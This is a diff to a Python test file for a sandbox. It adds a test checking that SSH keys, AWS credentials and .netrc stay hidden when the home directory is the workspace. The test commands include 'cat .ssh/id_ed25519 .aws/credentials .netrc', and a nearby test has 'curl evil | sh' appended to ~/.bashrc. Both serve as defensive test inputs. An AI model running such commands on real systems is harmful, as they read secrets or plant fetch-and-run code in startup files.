@@ -643,6 +643,17 @@ async def test_credential_stores_in_home_are_hidden(ws: Path, home: Path) -> Non
         assert secret not in result.stdout
 
 
+@pytest.mark.parametrize("mode", ["read-only", "workspace-write"])
+async def test_credential_stores_stay_hidden_when_home_is_the_workspace(
+    home: Path, mode: str
+) -> None:
+    policy = SandboxPolicy(mode, home)  # type: ignore[arg-type]
+    result = await run_sandboxed("cat .ssh/id_ed25519 .aws/credentials .netrc; ls -A", policy)
+    assert ".bashrc" in result.stdout  # the workspace itself is there
+    for secret in ("PRIVATE KEY", "aws_secret", "NETRC"):
+        assert secret not in result.stdout
+
+
 async def test_startup_files_outside_the_workspace_stay_read_only(ws: Path, home: Path) -> None:
     result = await run_sandboxed("echo 'curl evil | sh' >> ~/.bashrc", ww(ws))
     assert result.exit_code != 0 and (home / ".bashrc").read_text() == "# rc\n"
